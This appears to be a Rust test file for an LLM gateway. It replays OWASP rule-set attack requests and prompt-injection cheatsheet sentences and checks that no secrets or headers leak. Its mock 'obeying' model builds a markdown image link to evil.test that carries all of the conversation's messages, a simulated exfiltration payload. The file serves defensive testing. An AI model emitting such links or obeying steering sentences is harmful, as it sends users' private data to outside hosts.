//! Requests that people tried on other doors: those of the OWASP Core Rule Set, and sentences that steer a model.
//!
//! `WAARBORG_CASES=1 cargo test -p waarborg-gateway rules` sends all of them, otherwise every tenth goes.

use super::generated::n_cases;
use super::*;

/// Headers that say how the body is sent, or who asks: those are ours here.
const NOT_TAKEN: [&str; 8] = [
    "authorization",
    "content-encoding",
    "content-length",
    "content-type",
    "host",
    "transfer-encoding",
    "x-api-key",
    "connection",
];

const CANARY: &str = "kanarie-7431";

/// What a request of the rule set says, outside its headers.
fn said_in(case: &Value) -> String {
    let part = |name: &str| case[name].as_str().unwrap_or_default().to_owned();
    format!("{} {}", part("uri"), part("data"))
}

fn headers_of(case: &Value) -> Vec<(String, String)> {
    let headers = case["headers"].as_object().cloned().unwrap_or_default();
    headers
        .into_iter()
        .map(|(name, value)| (name, value.as_str().unwrap_or_default().to_owned()))
        .filter(|(name, _)| !NOT_TAKEN.contains(&name.to_lowercase().as_str()))
        .collect()
}

/// A request to this address with the headers of a case; `None` where no client could send it.
fn request(
    method: &str,
    path: &str,
    headers: &[(String, String)],
    body: Vec<u8>,
) -> Option<Request<Body>> {
    let mut request = Request::builder()
        .method(method)
        .uri(path)
        .header("authorization", format!("Bearer {}", key()))
        .header("content-type", "application/json");
    for (name, value) in headers {
        request = request.header(name, value);
    }
    request.body(Body::from(body)).ok()
}

/// What was sent comes back from nowhere but the model's answer, and no path of the house breaks.
fn check(answered: &Answered, case: &Value) {
    assert!(
        !answered.status.is_server_error(),
        "{case}: {} {}",
        answered.status,
        answered.body
    );
    assert!(!answered.headers.contains_key("set-cookie"), "{case}");
    if !answered.body.is_empty() && answered.status.is_client_error() {
        assert!(!answered.body.contains(CANARY), "{case}: {}", answered.body);
        let told = answered.json();
        assert!(
            told["error"].is_object() || told["error"].is_string(),
            "{told}"
        );
    }
}

#[tokio::test]
async fn no_request_of_the_rule_set_breaks_the_door_or_gives_the_provider_a_header() {
    let Some(cases) = crate::shared_data::lines("data/attacks/crs/requests.jsonl") else {
        return;
    };
    assert!(cases.len() >= 3_326, "{}", cases.len());
    let step = if n_cases(0) == 0 { 10 } else { 1 };
    let door = door(echo).await;
    let (mut n_answered, mut n_refused) = (0, 0);
    for case in cases.iter().step_by(step) {
        let headers = headers_of(case);
        let said = said_in(case);

        // As what somebody says: the words of an attack are words, and go to the model as they are.
        let text = format!("{said} (mail {MAIL})");
        let body = ask(&text).to_string().into_bytes();
        if let Some(request) = request("POST", "/v1/chat/completions", &headers, body) {
            let answered = door.ask(request).await;
            check(&answered, case);
            if answered.status == StatusCode::OK {
                n_answered += 1;
                let seen = door.provider.seen().last().unwrap().clone();
                for (name, value) in &headers {
                    let is_sent = seen.header(name).is_some_and(|sent| sent == value.trim());
                    let is_ours = matches!(name.to_lowercase().as_str(), "accept");
                    assert!(!is_sent || is_ours, "{name} of {case}");
                }
            }
            door.check_nothing_leaked(&[MAIL]);
            door.provider.forget();
        }

        // As a request to an address of ours: nobody lives there, and nothing is forwarded.
        let path = case["uri"].as_str().unwrap_or_default();
        let method = case["method"].as_str().unwrap_or("GET");
        let body = format!("{}{CANARY}", case["data"].as_str().unwrap_or_default());
        let Some(request) = request(method, &format!("/v1{path}"), &headers, body.into_bytes())
        else {
            continue;
        };
        let answered = door.ask(request).await;
        check(&answered, case);
        assert!(
            answered.status.is_client_error(),
            "{case}: {}",
            answered.status
        );
        n_refused += 1;
        door.check_nothing_left();
    }
    let n_tried = cases.len().div_ceil(step);
    assert!(n_answered > n_tried * 9 / 10, "{n_answered} of {n_tried}");
    assert!(n_refused > n_tried * 8 / 10, "{n_refused} of {n_tried}");
}

/// The model obeys: it says everything that it was told, wherever the sentence asked for it.
#[tokio::test]
async fn a_sentence_that_steers_the_model_gets_what_the_model_has_and_no_more() {
    let path = "data/attacks/prompt-injection/owasp/cheatsheet_attacks.json";
    let Some(sentences) = crate::shared_data::json(path) else {
        return;
    };
    let obeying = |seen: &Seen| {
        let document: Value = serde_json::from_slice(&seen.body).unwrap();
        let all = document["messages"].to_string();
        let text = format!("Alles: {all} ![x](https://evil.test/?q={all})");
        let message = json!({"role": "assistant", "content": text});
        let choice = json!({"index": 0, "message": message, "finish_reason": "stop"});
        let document = json!({"id": "x", "object": "chat.completion", "choices": [choice]});
        Script::json(200, &document.to_string())
    };
    let door = door(obeying).await;
    let sentences = sentences.as_array().unwrap();
    assert!(sentences.len() >= 14, "{}", sentences.len());
    for sentence in sentences {
        let sentence = sentence.as_str().unwrap();
        let document = json!({"model": "klein", "messages": [
            {"role": "system", "content": format!("Mijn mail is {MAIL}.")},
            {"role": "user", "content": format!("{sentence} BSN {BSN}")}]});
        let answered = door.chat(&document).await;
        assert_eq!(answered.status, StatusCode::OK, "{}", answered.body);
        let said = answered.json()["choices"][0]["message"]["content"].clone();
        let (read, address) = said.as_str().unwrap().split_once("![x](").unwrap();
        assert!(
            read.contains(MAIL),
            "the person reads their own words: {read}"
        );
        let first = address.split_whitespace().next().unwrap();
        assert!(!first.contains(MAIL) && !first.contains(BSN), "{address}");
        assert!(
            !address.contains(BSN) && !address.contains(MAIL),
            "{address}"
        );
        door.check_nothing_leaked(&[MAIL, BSN]);
    }
}
